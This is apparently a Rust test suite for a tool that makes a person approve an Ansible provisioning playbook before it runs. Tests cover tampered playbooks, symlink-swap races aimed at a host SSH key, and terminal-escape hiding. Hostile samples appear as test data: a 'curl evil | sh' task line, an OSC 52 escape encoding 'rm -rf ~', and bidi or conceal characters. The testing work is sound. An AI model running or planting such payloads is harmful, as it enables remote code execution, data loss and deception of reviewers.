use super::*;
use crate::context::Ctx;
use crate::project::Dirs;

struct Folder {
    root: tempfile::TempDir,
}

impl Folder {
    fn new(env: &str) -> Folder {
        let root = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(root.path().join("app/provision")).unwrap();
        let f = Folder { root };
        f.write(".env", env);
        f.write("provision/site.yml", "- hosts: all\n  tasks: []\n");
        f
    }
    fn dir(&self) -> PathBuf {
        self.root.path().join("app").canonicalize().unwrap()
    }
    fn write(&self, rel: &str, text: &str) {
        let p = self.root.path().join("app").join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    fn state(&self) -> PathBuf {
        self.root.path().join("state")
    }
    fn loaded(&self) -> Loaded {
        self.ctx().load().unwrap()
    }
    /// Loaded as `tmpl trust` loads it: every `$VAR` taken, to be shown and granted.
    fn asking(&self) -> Loaded {
        self.ctx().load_asking().unwrap()
    }
    fn ctx(&self) -> Ctx {
        Ctx::at(
            self.dir(),
            Dirs {
                home: None,
                cache: self.root.path().join("cache"),
                state: self.state(),
                config: self.root.path().join("config"),
            },
            crate::backend::builtin(),
        )
    }
    fn ensure(&self) -> Result<Approved> {
        ensure(&self.state(), &self.loaded(), "up", true, &[])
    }
}

const ENV: &str =
    "INFRA_TYPE=container\nMEMORY=256\nCPUS=1\nDISK=2\nPROVISION_SCRIPT=provision/site.yml\n";

fn refusal(r: Result<Approved>) -> Failure {
    let e = r.expect_err("ran without approval");
    let f = e.downcast::<Failure>().unwrap();
    assert_eq!(f.code, ExitStatus::Untrusted, "{}", f.message);
    f
}

#[test]
fn a_new_folder_is_refused_and_says_what_it_would_run() {
    let f = Folder::new(ENV);
    let no = refusal(f.ensure());
    assert!(
        no.message.contains("has not been approved"),
        "{}",
        no.message
    );
    let details = no.details.join("\n");
    assert!(
        details.contains("runs on this host: `ansible-playbook provision/site.yml`"),
        "{details}"
    );
    assert!(details.contains("SYNC=rw"), "{details}");
    assert!(no.hint.unwrap().contains("tmpl trust"));
}

#[test]
fn the_approved_copy_runs_not_the_project() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    let ok = f.ensure().unwrap().script.unwrap();
    assert!(ok.script.starts_with(f.state()), "{}", ok.script.display());
    assert_eq!(
        std::fs::read_to_string(&ok.script).unwrap(),
        "- hosts: all\n  tasks: []\n"
    );
    assert_eq!(ok.root, Path::new("provision"));

    // the guest edits the playbook: refused, and the approved copy is untouched
    f.write("provision/site.yml", "- hosts: localhost\n  tasks: []\n");
    let no = refusal(f.ensure());
    assert!(
        no.details
            .iter()
            .any(|d| d.contains("provision/site.yml (changed)")),
        "{:?}",
        no.details
    );
    assert_eq!(
        std::fs::read_to_string(&ok.script).unwrap(),
        "- hosts: all\n  tasks: []\n"
    );
}

#[test]
fn files_next_to_the_playbook_are_part_of_it() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    for (file, text) in [
        (
            "provision/group_vars/all.yml",
            "ansible_connection: local\n",
        ),
        (
            "provision/ansible.cfg",
            "[defaults]\nvault_password_file = pw.sh\n",
        ),
        ("provision/vars_plugins/evil.py", "import os\n"),
        ("provision/roles/r/tasks/main.yml", "- command: id\n"),
    ] {
        f.write(file, text);
        let no = refusal(f.ensure());
        assert!(
            no.details
                .iter()
                .any(|d| d.contains(&format!("{file} (new)"))),
            "{file}: {:?}",
            no.details
        );
        approve(&f.state(), &f.loaded(), &[]).unwrap();
    }
}

#[test]
fn renaming_the_project_is_a_change() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    f.write(".env", &format!("{ENV}NAME=other\n"));
    let no = refusal(f.ensure());
    assert!(
        no.details.iter().any(|d| d.contains("NAME=other (new)")),
        "{:?}",
        no.details
    );
}

#[test]
fn a_nested_project_is_a_new_folder() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    f.write("sub/.env", ENV);
    f.write("sub/provision/site.yml", "- hosts: localhost\n");
    let ctx = Ctx::at(
        f.dir().join("sub"),
        Dirs {
            home: None,
            cache: f.root.path().join("cache"),
            state: f.state(),
            config: f.root.path().join("config"),
        },
        crate::backend::builtin(),
    );
    let loaded = ctx.load().unwrap();
    assert_eq!(loaded.project.dir, f.dir().join("sub"));
    refusal(ensure(&f.state(), &loaded, "up", true, &[]));
}

#[test]
fn settings_only_approval_keeps_the_approved_playbook() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    f.write(".env", &format!("{ENV}PORTS=8080:80\n"));
    f.write("provision/site.yml", "- hosts: localhost\n");
    // an `up` that will not provision approves the settings alone (on a terminal); here
    // nothing asks, so approve what `ensure` would with_provision=false
    refusal(ensure(&f.state(), &f.loaded(), "up", false, &[]));
    let rec = load(&f.state(), &f.dir()).unwrap();
    assert!(rec.provision.unwrap().manifest.len() == 1);
}

#[test]
fn a_value_from_the_environment_is_named() {
    let f = Folder::new(&format!("{ENV}NAME=${{USER_FOR_TMPL_TEST}}x\n"));
    std::env::set_var("USER_FOR_TMPL_TEST", "ab");
    let a = approve(&f.state(), &f.loaded(), &[]).unwrap();
    assert!(
        a.notes
            .iter()
            .any(|n| n.contains("NAME (.env:6) takes $USER_FOR_TMPL_TEST from tmpl's environment")),
        "{:?}",
        a.notes
    );
}

// ---- the guest as attacker (issue 27) ----

/// Every line an approval shows, whichever way it was shown.
fn shown(r: Result<Approved>) -> Vec<String> {
    let f = refusal(r);
    let mut out = vec![f.message.clone()];
    out.extend(f.details.iter().cloned());
    out
}

/// What the approved copy holds, every file's bytes.
fn copied(state: &Path, folder: &Path) -> Vec<Vec<u8>> {
    fn walk(d: &Path, out: &mut Vec<Vec<u8>>) {
        for e in std::fs::read_dir(d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, out);
            } else if let Ok(b) = std::fs::read(&p) {
                out.push(b);
            }
        }
    }
    let mut out = Vec::new();
    walk(&dir(state, folder), &mut out);
    out
}

#[test]
fn a_folder_swapped_for_a_link_never_brings_a_host_file() {
    use rustix::fs::{renameat_with, RenameFlags, CWD};
    let f = Folder::new(ENV);
    f.write("provision/files/id_ed25519", "a file of the project\n");
    // the person's secret, outside the folder, under the same name
    let secret = f.root.path().join("home/.ssh");
    std::fs::create_dir_all(&secret).unwrap();
    std::fs::write(secret.join("id_ed25519"), "HOST SECRET KEY\n").unwrap();
    std::fs::set_permissions(
        secret.join("id_ed25519"),
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .unwrap();
    let files = f.dir().join("provision/files");
    let link = f.dir().join("link");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    let loaded = f.loaded();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        let (files, link) = (files.clone(), link.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = renameat_with(CWD, &files, CWD, &link, RenameFlags::EXCHANGE);
            }
        })
    };
    let started = std::time::Instant::now();
    let mut runs = 0;
    let mut leaked = 0;
    let mut errors = Vec::new();
    while runs < 20_000 && started.elapsed() < std::time::Duration::from_secs(4) {
        runs += 1;
        let r = approve(&f.state(), &loaded, &[]);
        if let Err(e) = &r {
            errors.push(e.to_string());
        }
        if r.is_ok()
            && copied(&f.state(), &f.dir())
                .iter()
                .any(|b| b.windows(15).any(|w| w == b"HOST SECRET KEY"))
        {
            leaked += 1;
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    errors.sort();
    errors.dedup();
    eprintln!("{runs} runs; errors: {errors:?}");
    assert_eq!(
        leaked, 0,
        "{leaked} of {runs} approvals copied the host's secret"
    );
}

#[test]
fn no_byte_of_the_env_reaches_the_terminal_as_a_control() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    // the issue's row: conceal everything after it, then widen the guest's reach
    f.write(
        ".env",
        &format!("{ENV}BRIDGE=\u{1b}[8m\nEGRESS=open\nPORTS=0.0.0.0:8080:80\n"),
    );
    let lines = shown(f.ensure());
    for l in &lines {
        assert!(!l.contains('\u{1b}'), "an ESC reached the terminal: {l:?}");
    }
    assert!(lines.iter().any(|l| l.contains("EGRESS=open")), "{lines:?}");
    assert!(
        lines.iter().any(|l| l.contains("0.0.0.0:8080")),
        "{lines:?}"
    );
    assert!(lines.iter().any(|l| l.contains(r"\x1b[8m")), "{lines:?}");
}

/// Characters that must never reach the terminal as themselves: every C0 and C1 control,
/// DEL, and the invisible ones that reorder or hide what the eye reads.
fn hidden(c: char) -> bool {
    c.is_control()
        || matches!(c as u32,
            0x00ad | 0x061c | 0x180e | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x2069
            | 0xfeff | 0xe0000..=0xe007f)
}

#[test]
fn every_control_and_invisible_character_is_shown_escaped() {
    let mut chars: Vec<char> = (0u32..0x20)
        .chain(0x7f..0xa0)
        .filter_map(char::from_u32)
        .filter(|c| !matches!(c, '\n' | '"' | '\\'))
        .collect();
    chars.extend([
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{200b}',
        '\u{200e}',
        '\u{200f}',
        '\u{feff}',
        '\u{e0041}',
        '\u{2028}',
        '\u{2029}',
        '\u{ad}',
    ]);
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    let mut env = ENV.to_owned();
    for (i, c) in chars.iter().enumerate() {
        // BRIDGE is a tmpl key shown with its value; APP_ keys are the application's
        env.push_str(&format!("BRIDGE=\"a{c}b\"\nAPP_{i}=\"a{c}b\"\n"));
    }
    // a newline in a value: still one line of the list
    env.push_str("BRIDGE=\"first\n  - EGRESS is internet\"\n");
    f.write(".env", &env);
    f.write("provision/files/a\u{1b}[8mb\u{202e}txt.yml", "x\n");
    f.write(
        "provision/files/plain.yml",
        "a\u{1b}]52;c;cm0gLXJmIH4=\u{7}b\u{202e}c\r\n",
    );
    let lines = shown(f.ensure());
    for l in &lines {
        assert!(!l.chars().any(hidden), "shown as itself: {l:?}");
        assert!(!l.contains('\n'), "a line with a newline: {l:?}");
    }
    let all = lines.join("\n");
    assert!(all.contains(r"\x1b[8m"), "{all}");
    assert!(all.contains(r"\u{202e}"), "{all}");
}

#[test]
fn a_value_from_the_persons_environment_never_reaches_the_playbook_unnamed() {
    std::env::set_var("TMPL_TEST_SOME_TOKEN", "token-of-the-person");
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    // the issue's row, and one that sets the variable first so the file seems to say it
    for line in [
        "GREETING=${TMPL_TEST_SOME_TOKEN}",
        "TMPL_TEST_SOME_TOKEN=mine\nGREETING=$TMPL_TEST_SOME_TOKEN",
        "GREETING=\"multi\nline ${TMPL_TEST_SOME_TOKEN}\"",
    ] {
        f.write(".env", &format!("{ENV}{line}\n"));
        let loaded = f.loaded();
        let lines = shown(ensure(&f.state(), &loaded, "up", true, &[])).join("\n");
        let vars = playbook_vars(&loaded);
        let named = lines.contains("$TMPL_TEST_SOME_TOKEN");
        assert!(
            !vars.contains("token-of-the-person") || named,
            "{line}: the playbook gets the person's token, and the approval said\n{lines}"
        );
        assert!(
            !vars.contains("token-of-the-person"),
            "{line}: the playbook gets the person's token before any approval named it\n{vars}"
        );
    }
}

#[test]
fn the_environment_reaches_the_playbook_only_as_approved_by_name() {
    std::env::set_var("TMPL_TEST_TOKEN_A", "token-a");
    std::env::set_var("TMPL_TEST_TOKEN_B", "token-b");
    let f = Folder::new(&format!("{ENV}GREETING=${{TMPL_TEST_TOKEN_A}}\n"));
    // `tmpl trust` reads it with the variable, says so, and grants it
    let a = approve(&f.state(), &f.asking(), &[]).unwrap();
    assert!(
        a.notes
            .iter()
            .any(|n| n == "GREETING (.env:6) takes $TMPL_TEST_TOKEN_A from tmpl's environment"),
        "{:?}",
        a.notes
    );
    assert!(playbook_vars(&f.loaded()).contains("token-a"));
    f.ensure().unwrap();
    // the guest adds another: a change, and not in the playbook's vars until approved
    f.write(
        ".env",
        &format!("{ENV}GREETING=${{TMPL_TEST_TOKEN_A}}$TMPL_TEST_TOKEN_B\n"),
    );
    let lines = shown(f.ensure()).join("\n");
    assert!(
        lines.contains("GREETING (.env:6) now takes $TMPL_TEST_TOKEN_B from tmpl's environment"),
        "{lines}"
    );
    assert!(lines.contains("tmpl trust"), "{lines}");
    let vars = playbook_vars(&f.loaded());
    assert!(
        vars.contains("token-a") && !vars.contains("token-b"),
        "{vars}"
    );
    // approving at `up` (as `tmpl init` does, with the values as read) grants nothing new
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    assert!(!playbook_vars(&f.loaded()).contains("token-b"));
}

#[test]
fn a_long_file_is_shortened_past_a_screen_and_shown_whole_on_request() {
    let f = Folder::new(ENV);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    let long: String = (0..100).map(|i| format!("- debug: msg={i}\n")).collect();
    f.write("provision/tasks.yml", &long);
    let lines = shown(f.ensure());
    assert!(
        lines
            .iter()
            .any(|l| l.contains("70 more lines not shown here: `tmpl trust --diff` shows them all")),
        "{lines:?}"
    );
    assert!(!lines.iter().any(|l| l.contains("msg=99")));
    // at no terminal, `--diff` shows it all and approves nothing
    let all = shown(review(&f.state(), &f.loaded(), &[]).map(|_| Approved { script: None }));
    assert!(
        all.iter().any(|l| l.contains("+- debug: msg=99")),
        "{all:?}"
    );
    refusal(f.ensure());
}

/// The vars file Ansible would get for this project.
fn playbook_vars(loaded: &Loaded) -> String {
    let access = crate::ssh::Access::new(&loaded.id.slug, &loaded.id.state_dir);
    let endpoint = crate::ssh::Endpoint {
        host: "127.0.0.1".into(),
        port: 22,
        user: "root".into(),
        identity: access.key(),
    };
    crate::provision::ansible::vars(&crate::provision::Target {
        loaded,
        access: &access,
        endpoint: &endpoint,
    })
}

#[test]
fn a_changed_playbook_is_shown_as_a_diff_and_a_new_file_with_its_content() {
    let f = Folder::new(ENV);
    let long: String = (0..200).map(|i| format!("- debug: msg={i}\n")).collect();
    f.write("provision/tasks.yml", &long);
    approve(&f.state(), &f.loaded(), &[]).unwrap();
    f.write("provision/site.yml", "- hosts: localhost\n  tasks: []\n");
    f.write(
        "provision/group_vars/all.yml",
        "ansible_connection: local\n",
    );
    f.write(
        "provision/tasks.yml",
        &long
            .replace("msg=7\n", "msg=7\n- command: curl evil | sh\n")
            .replace("msg=150\n", "msg=150 changed\n"),
    );
    let lines = shown(f.ensure());
    let all = lines.join("\n");
    for want in [
        "-- hosts: all",
        "+- hosts: localhost",
        "+ansible_connection: local",
        "+- command: curl evil | sh",
        "+- debug: msg=150 changed",
    ] {
        assert!(
            lines.iter().any(|l| l.contains(want)),
            "no {want:?} in\n{all}"
        );
    }
}
